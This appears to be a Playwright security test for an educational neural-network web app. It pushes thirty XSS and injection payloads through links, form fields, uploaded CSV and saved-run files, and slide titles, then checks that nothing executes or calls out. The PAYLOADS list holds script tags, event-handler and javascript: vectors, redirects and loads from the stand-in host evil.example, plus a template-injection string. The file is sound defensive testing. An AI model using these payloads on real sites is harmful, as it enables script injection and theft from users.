"""Thirty payloads through every door of the page: nothing of them runs, nothing foreign is asked for or linked to."""

from __future__ import annotations

import base64
import copy
import csv
import dataclasses
import json
import re
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Page, expect

from core.datasets.rows import plain_name
from core.refusal import Refusal
from core.settings import LIMITS
from playground.exercise.grid import Unread
from playground.live.looks import Looks
from playground.look.mydata.panel import _sentence
from playground.mydata.saved import read_run
from playground.words import say
from scripts.app_server import AppServer
from scripts.live_page import LivePage
from tests.browser.test_pictures import MAKE, WISH

EVIL = "evil.example"
RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src=//{EVIL}/x.png>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src=//{EVIL}></iframe>",
    f"<a href=//{EVIL}>x</a>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<form action=//{EVIL}><input autofocus onfocus={RUN}></form>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<style>@import '//{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<base href=//{EVIL}/>",
    f"[x](//{EVIL})",
    f"[x](javascript:{RUN})",
    f"![x](//{EVIL}/x.png)",
    f"<//{EVIL}> https://{EVIL}/x",
    f":material/home: :red[x] $\\href{{//{EVIL}}}{{x}}$",
    f"$\\htmlData{{x=y}}{{z}} \\includegraphics{{//{EVIL}/x.png}}$",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
    f"javascript:{RUN}//",
)
# Where everything on the page that has an address leads, loads or sends to.
ADDRESSES = """() => [...document.querySelectorAll('[*|href], [src], [action], [formaction], [data]')]
  .flatMap((one) => ['href', 'xlink:href', 'src', 'action', 'formaction', 'data'].map((name) => one.getAttribute(name)))
  .filter((one) => one !== null).map((one) => new URL(one, location.origin))
  .map(({ protocol, host }) => protocol === 'http:' ? host : protocol)"""
PAGE_ONLY = ("lesson", "scene", "controls", "student", "lang", "changes")  # fields of a link that no run knows
SPOKEN_TO = "[data-testid='stApp'][data-test-script-state='notRunning']"


class Guard:
    """Looks after one page."""

    def __init__(self, page: Page, server: AppServer) -> None:
        self.page, self.home = page, f"127.0.0.1:{server.port}"
        self.asked: set[str] = set()
        self.dialogs: list[str] = []
        page.on("request", lambda request: self.asked.add(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def check(self, where: str) -> None:
        """Nothing has run, nothing foreign was asked for, nothing on the page leads to where a payload wants to go."""
        assert self.page.evaluate("window.ran") is None, where
        assert self.dialogs == [], where
        assert self.page.url.startswith(f"http://{self.home}/"), where
        hosts = {urlsplit(url).netloc for url in self.asked if not url.startswith(("data:", "blob:"))}
        assert hosts == {self.home}, where
        leads = set(self.page.evaluate(ADDRESSES))
        assert self.home in leads, where
        assert leads <= {self.home, "data:", "blob:"}, where
        assert self.page.locator("[srcdoc]").count() == 0, where


def table(payloads: tuple[str, ...]) -> str:
    """A file whose columns, and whose classes, are called like that."""
    out = StringIO()
    writer = csv.writer(out, delimiter=";")
    *columns, yes, no = payloads
    writer.writerow([*columns, "class"])
    for row in range(12):
        writer.writerow([*(str((row * 7 + at * 3) % 11) for at in range(len(columns))), yes if row % 2 else no])
    return out.getvalue()


def send(page: Page, path: Path, content: str) -> None:
    path.write_text(content, encoding="utf-8")
    page.get_by_test_id("mydata-file").set_input_files(path)


def spoiled(kept: dict[str, Any], at: int) -> str:
    """A saved run with a payload for the name of a column, of a class, or of a setting and its value, in turns."""
    run, payload = copy.deepcopy(kept), PAYLOADS[at]
    match at % 3:
        case 0:
            run["data"]["names"][0] = payload
        case 1:
            run["data"]["class_names"][0] = payload
        case 2:
            run["settings"] |= {payload: payload, "optimizer": payload}
    return json.dumps(run)


def refusal(saved: str) -> str:
    """What the page says of a saved run that cannot be opened."""
    with pytest.raises((Unread, Refusal)) as problem:
        read_run(saved.encode())
    return _sentence(problem.value)


def test_thirty_payloads_do_nothing_wherever_they_come_in(
    visitor: Callable[..., Page], app_server: AppServer, tmp_path: Path
) -> None:
    assert len(set(PAYLOADS)) == 30
    page = visitor(reduced_motion="reduce")
    guard = Guard(page, app_server)

    # the fields of a link, known and unknown: half of the payloads here, half in the link to a lesson below
    fields = [*LIMITS, *(look.name for look in dataclasses.fields(Looks)), *PAGE_ONLY]

    def link(turn: int, **others: str) -> str:
        turned = PAYLOADS[turn:] + PAYLOADS[:turn]
        spoken = {name: turned[at % 30] for at, name in enumerate(dict.fromkeys(fields))}
        return f"{app_server.url}?{urlencode(spoken | {text: text for text in turned[:15]} | others)}"

    live = LivePage(page).open(link(0))
    expect(page.locator(".st-key-notice")).to_be_visible()
    guard.check("a link")

    # a lesson: the number that a teacher's link asks for, and answers
    live.open(link(15, lesson="exercise", scene="1", student="ask", controls="locked", lang="en"))
    number = page.locator(".st-key-student-number input")
    for payload in ("<b>x</b>", "[x](//x)", "$\\sqrt{x}$", "7"):  # it takes ten letters
        number.fill(payload)
        number.press("Enter")
        page.locator(SPOKEN_TO).wait_for()
    answer = page.locator(".bp-ask-input")
    for payload in PAYLOADS:
        answer.fill(payload)
        answer.press("Enter")
        expect(page.locator(".bp-ask-verdict")).to_have_text(say("lesson-no-number"))
    guard.check("a lesson")

    # the names of columns and of classes in a file, on the page, on the diagram, and in the cards
    live.open(f"{app_server.url}?hidden=3&activations=tanh&batch_size=5&panel=mydata&step=1")
    use = page.locator(".st-key-mydata-use button")
    for at in range(0, 30, 6):
        send(page, tmp_path / "points.csv", table(PAYLOADS[at : at + 6]))
        expect(page.locator("[class*='st-key-mydata-inputs-'] button").first).to_have_text(plain_name(PAYLOADS[at]))
        use.click()
        live.wait_for_step("step === 0")
        live.control("step").click()
        live.wait_for_step("step > 0")
        guard.check(f"a network on the columns from {at}")
    page.keyboard.press("p")
    page.wait_for_selector('[data-testid="audit"][data-waiting="false"]')
    guard.check("the cards")

    # a run that was saved and written over
    with page.expect_download() as waiting:
        page.locator(".st-key-mydata-save button").first.click()
    kept = json.loads(waiting.value.path().read_text(encoding="utf-8"))
    for at, payload in enumerate(PAYLOADS):
        send(page, tmp_path / "run.json", saved := spoiled(kept, at))
        expect(page.locator(".st-key-refused-mydata-data")).to_have_text(refusal(saved))
        guard.check(f"a saved run with {payload}")

    # numbers typed from a sheet
    page.locator(".st-key-panel button").filter(has_text=say("panel-exercise")).click()
    boxes = page.locator("[class*='st-key-exercise-'] textarea")
    boxes.first.wait_for()
    for at, payload in enumerate(PAYLOADS):
        boxes.nth(at % 5).fill(payload)
        if at % 5 == 4:
            page.keyboard.press("Control+Enter")
            page.locator(SPOKEN_TO).wait_for()
            page.locator(".st-key-exercise-run button").click()
            expect(page.locator(".st-key-refused-exercise")).to_be_visible()
            guard.check(f"an exercise up to {at}")

    # the title of a slide
    for payload in PAYLOADS:
        made = page.evaluate(MAKE, {**WISH, "format": "svg", "title": payload})
        root = ElementTree.fromstring(base64.b64decode(made["data"]))
        attributes = [(name, value) for node in root.iter() for name, value in node.attrib.items()]
        assert not [node.tag for node in root.iter() if re.search("script|foreignObject|}a$|iframe", node.tag)], payload
        assert not [name for name, _ in attributes if name.startswith("on")], payload
        assert not [v for n, v in attributes if n.endswith("href") and not v.startswith(("#", "data:"))], payload
        assert payload in [node.text for node in root.iter()], payload
    guard.check("the slide")
